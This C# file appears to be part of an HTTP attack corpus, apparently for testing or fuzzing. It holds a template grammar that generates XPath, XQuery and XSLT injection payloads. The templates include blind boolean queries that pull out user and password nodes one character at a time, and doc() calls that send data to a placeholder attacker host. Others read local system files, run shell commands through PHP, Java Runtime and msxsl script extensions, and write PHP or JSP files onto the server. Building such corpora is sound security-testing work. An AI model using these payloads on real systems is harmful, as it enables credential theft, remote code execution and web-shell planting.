namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Break-outs into XPath and XQuery, and style sheets that call out.</summary>
/// <remarks>OWASP WSTG-INPV-09, CAPEC-83, CAPEC-84, CWE-643, CWE-652, CWE-91; XPath 3.1, XSLT 3.0.</remarks>
internal static class XmlQueries
{
    public const string Text = """"
        §xpath
        5× «xq» «or¦and¦or¦or» «xtrue»«xtail»
        4× «xq» «or¦and» «xfn»«xtail»
        3× «word»«xq»]«xmore»
        2× «xq»] | //*«¦[«xtrue»]¦/«word»» | //«word»[«xq»«xq»=«xq»
        2× «num» «or¦and» «xfn»
        2× «xq» «or¦and» «xfn»«xcmp»«num» «or¦and» «xq»«letter»«xq»=«xq»«letter»
        «xq»)] | //««word»¦*¦user/*¦node()¦password¦text()»[contains(«letter»,«xq»«letter»
        «xq») or «xtrue» or («xq»«letter»«xq»=«xq»
        /*«¦/*¦[«#1-3»]¦/*[1]/*[«#1-3»]»/«text()¦node()¦@*¦child::node()»
        //««word»¦*¦user¦users¦password¦account»«/text()¦/node()¦[position()=«#1-9»]/child::node()[position()=«#1-9»]/text()¦/@*¦[name()='«word»']¦[1]»
        «xfn»
        «num»] | //*
        x' or «name()='«word»'¦position()=«#1-9»¦last()¦1]/*[1¦1=1» or 'x'='y
        '«¦]» | //«user/*¦*/*¦password»[«1¦'1'='1'»] | a[«¦'1'='1»
        «xq»«]¦)]¦»/«¦parent::*¦ancestor::*¦../*¦preceding-sibling::*¦following::*¦descendant::*»«/node()¦[1]¦»
        for $«letter» in doc("««unixfile»¦«evilurl»»")«//*¦» return $«letter»
        «xq» and «count¦string-length»(/«*¦«word»»«¦/*»)«xcmp»«num» and «xq»1«xq»=«xq»1
        §xq
        5× '
        3× "
        «word»'
        «')¦"]¦']¦%27»
        §xtrue
        3× '$n'='$n
        2× '«$n:letter»'='«$n»
        2× '1'='1
        «$n:num»=«$n»
        true()
        ''='
        "«$n:letter»"="«$n»
        not(false())
        1=1
        'a'='a' or 'a'='a
        §xfn
        3× count(«/¦//»«*¦«word»¦«user¦users¦account¦child»»«¦/*¦/@*¦[1]»)«xcmp»«num»
        3× string-length(«name(«/*[1]¦/*¦parent::*»)¦//«user¦«word»»[«#1-9»]/«child::node()[«#1-9»]¦password¦text()»¦//*[1]¦/*[1]/*[1]»)«xcmp»«num»
        3× substring(«name(/*[1])¦//«user¦«word»»[«#1-9»]/«password¦child::node()[«#1-9»]¦text()»¦//*[1]/text()¦(//*)[«#1-9»]»,«#1-30»,1)='«letter»'
        2× «starts-with¦contains¦ends-with»(«name()¦//«word»/text()¦.¦@«word»», '«letter»')
        2× codepoints-to-string(«#97-122»)=substring(«name(/*)¦//«word»[1]/text()»,«#1-20»,1)
        doc«-available¦»(concat("http://«evilhost»/«¦?x=»",«/*[1]/*[1]/text()¦name(/*)¦encode-for-uri(/*[1])»))
        doc('««evilurl»¦file://«unixfile»»')
        «position()=«#1-9»¦last()=«#1-9»¦name()='«word»'¦local-name()='«word»'¦namespace-uri()=''»
        unparsed-text('«unixfile»')
        normalize-space(//«word»)='«word»'
        translate(name(/*),'«letter»','')='«word»'
        boolean(//«word»)
        system-property('xsl:vendor')
        collection('«word»')
        §xcmp
        «=¦>¦<¦!=¦>=»
        §xtail
        4×
        2× ␠or ''='
        «]¦)]¦'¦ and '1'='1¦ or 'a'='b¦%00¦(:¦ or 1=1]|//*¦] | //*[¦")]»
        §xmore
        /«child::*¦*¦parent::node()¦../*»«¦[1]»«¦|a['»
        |//«word»|//a['
        [«xfn»]
        %00
        §xslt
        3× <xsl:value-of select="«system-property('xsl:«version¦vendor¦vendor-url»')¦php:function('«phpsys»','«shellcmd»')¦document('«unixfile»')¦Runtime:exec(Runtime:getRuntime(),'«shellcmd»')¦user:xml()¦unparsed-text('«unixfile»')¦jv:exec(jv:getRuntime(),'«shellcmd»')»"/>
        2× <?xml version="1.0"?><xsl:stylesheet version="«1¦2».0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" «xmlns:php="http://php.net/xsl"¦xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"¦xmlns:msxsl="urn:schemas-microsoft-com:xslt"¦xmlns:date="http://xml.apache.org/xalan/java/java.util.Date"»><xsl:template match="/">«<xsl:value-of select="php:function('«phpsys»','«shellcmd»')"/>¦<xsl:variable name="rtobject" select="rt:getRuntime()"/><xsl:variable name="p" select="rt:exec($rtobject,'«shellcmd»')"/>¦<xsl:copy-of select="document('«unixfile»')"/>»</xsl:template></xsl:stylesheet>
        <msxsl:script language="«C#¦JScript¦VB»" implements-prefix="user"><![CDATA[public string «word»(){System.Diagnostics.Process.Start("cmd.exe","/c «shellcmd»");return "";}]]></msxsl:script>
        <xsl:«include¦import» href="«evilurl»"/>
        <exsl:document href="«/var/www/html/«rand».php¦file://«rand»¦«unixfile»»" method="text">««phpcode»¦«rand»»</exsl:document>
        <xsl:result-document href="«rand».«php¦jsp»">«rand»</xsl:result-document>
        """";
}
